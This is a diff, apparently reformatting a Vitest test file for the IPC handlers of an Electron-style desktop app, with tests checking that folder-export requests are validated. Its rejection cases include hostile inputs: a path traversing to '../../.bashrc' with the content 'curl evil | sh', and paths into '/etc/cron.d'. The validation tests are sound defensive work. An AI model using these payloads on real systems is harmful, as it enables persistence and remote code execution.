@@ -18,7 +18,8 @@ function fakeIpc() {
     },
     removeHandler: (channel) => listeners.delete(channel),
   };
-  const invoke = (method: HostMethod, event: InvokeEvent, ...args: unknown[]) => listeners.get(HOST_CHANNELS[method].channel)!(event, ...args);
+  const invoke = (method: HostMethod, event: InvokeEvent, ...args: unknown[]) =>
+    listeners.get(HOST_CHANNELS[method].channel)!(event, ...args);
   return { ipc, listeners, invoke };
 }
 
@@ -29,7 +30,10 @@ function stubHandlers(overrides: Partial<HostHandlers> = {}): HostHandlers {
     saveDocument: vi.fn(async ({ path }) => ({ status: 'saved' as const, file: { path, name: 'a.stowage' } })),
     saveDocumentAs: vi.fn(async () => ({ status: 'canceled' as const })),
     exportFile: vi.fn(async () => ({ status: 'canceled' as const })),
-    exportFolder: vi.fn(async ({ suggestedName }) => ({ status: 'saved' as const, file: { path: `/exports/${suggestedName}`, name: suggestedName } })),
+    exportFolder: vi.fn(async ({ suggestedName }) => ({
+      status: 'saved' as const,
+      file: { path: `/exports/${suggestedName}`, name: suggestedName },
+    })),
     listRecent: vi.fn(async () => []),
     clearRecent: vi.fn(async () => null),
     writeDraft: vi.fn(async () => null),
@@ -52,7 +56,11 @@ describe('registerHostHandlers', () => {
   it('registers exactly one handler per contract channel and removes them again', () => {
     const { ipc, listeners } = fakeIpc();
     const dispose = registerHostHandlers(ipc, stubHandlers(), senderCheck);
-    expect([...listeners.keys()].sort()).toEqual(Object.values(HOST_CHANNELS).map((entry) => entry.channel).sort());
+    expect([...listeners.keys()].sort()).toEqual(
+      Object.values(HOST_CHANNELS)
+        .map((entry) => entry.channel)
+        .sort(),
+    );
     dispose();
     expect(listeners.size).toBe(0);
   });
@@ -61,7 +69,10 @@ describe('registerHostHandlers', () => {
     const { ipc, invoke } = fakeIpc();
     const handlers = stubHandlers();
     registerHostHandlers(ipc, handlers, senderCheck);
-    await expect(invoke('saveDocument', trusted, { path: '/d/a.stowage', text: '{}' })).resolves.toEqual({ status: 'saved', file: { path: '/d/a.stowage', name: 'a.stowage' } });
+    await expect(invoke('saveDocument', trusted, { path: '/d/a.stowage', text: '{}' })).resolves.toEqual({
+      status: 'saved',
+      file: { path: '/d/a.stowage', name: 'a.stowage' },
+    });
     expect(handlers.saveDocument).toHaveBeenCalledWith({ path: '/d/a.stowage', text: '{}' });
   });
 
@@ -84,18 +95,45 @@ describe('registerHostHandlers', () => {
     const handlers = stubHandlers();
     registerHostHandlers(ipc, handlers, senderCheck);
     expect(listeners.has('file:export-folder')).toBe(true);
-    const request = { suggestedName: 'payments', files: [{ path: 'bin/app.ts', content: 'new App();' }, { path: 'cdk.json', content: '{}' }] };
-    await expect(invoke('exportFolder', trusted, request)).resolves.toEqual({ status: 'saved', file: { path: '/exports/payments', name: 'payments' } });
+    const request = {
+      suggestedName: 'payments',
+      files: [
+        { path: 'bin/app.ts', content: 'new App();' },
+        { path: 'cdk.json', content: '{}' },
+      ],
+    };
+    await expect(invoke('exportFolder', trusted, request)).resolves.toEqual({
+      status: 'saved',
+      file: { path: '/exports/payments', name: 'payments' },
+    });
     expect(handlers.exportFolder).toHaveBeenCalledWith(request);
   });
 
   it.each([
-    ['a folder name with a separator', { suggestedName: '../payments', files: [{ path: 'a.ts', content: '' }] }, /suggestedName: must be a plain folder name/],
+    [
+      'a folder name with a separator',
+      { suggestedName: '../payments', files: [{ path: 'a.ts', content: '' }] },
+      /suggestedName: must be a plain folder name/,
+    ],
     ['an empty folder name', { suggestedName: '', files: [{ path: 'a.ts', content: '' }] }, /suggestedName/],
-    ['a path leaving the folder', { suggestedName: 'app', files: [{ path: '../../.bashrc', content: 'curl evil | sh' }] }, /files\.0\.path: must be a relative path inside the folder/],
+    [
+      'a path leaving the folder',
+      { suggestedName: 'app', files: [{ path: '../../.bashrc', content: 'curl evil | sh' }] },
+      /files\.0\.path: must be a relative path inside the folder/,
+    ],
     ['an absolute path', { suggestedName: 'app', files: [{ path: '/etc/cron.d/x', content: '' }] }, /files\.0\.path/],
     ['a Windows path', { suggestedName: 'app', files: [{ path: 'lib\\..\\..\\x', content: '' }] }, /files\.0\.path/],
-    ['a duplicate path', { suggestedName: 'app', files: [{ path: 'a.ts', content: '' }, { path: 'A.ts', content: '' }] }, /files\.1\.path: “A\.ts” is listed twice/],
+    [
+      'a duplicate path',
+      {
+        suggestedName: 'app',
+        files: [
+          { path: 'a.ts', content: '' },
+          { path: 'A.ts', content: '' },
+        ],
+      },
+      /files\.1\.path: “A\.ts” is listed twice/,
+    ],
     ['no files', { suggestedName: 'app', files: [] }, /files/],
     ['binary content', { suggestedName: 'app', files: [{ path: 'a.bin', content: new Uint8Array(4) }] }, /files\.0\.content/],
     ['an extra field', { suggestedName: 'app', files: [{ path: 'a.ts', content: '' }], overwrite: true }, /overwrite/],
@@ -129,7 +167,11 @@ describe('registerHostHandlers', () => {
 
   it('rejects messages before the main window exists', async () => {
     const { ipc, invoke } = fakeIpc();
-    registerHostHandlers(ipc, stubHandlers(), createSenderCheck(() => null, location));
+    registerHostHandlers(
+      ipc,
+      stubHandlers(),
+      createSenderCheck(() => null, location),
+    );
     await expect(invoke('listRecent', trusted, {})).rejects.toThrow(/did not come from the Stowage window/);
   });
 
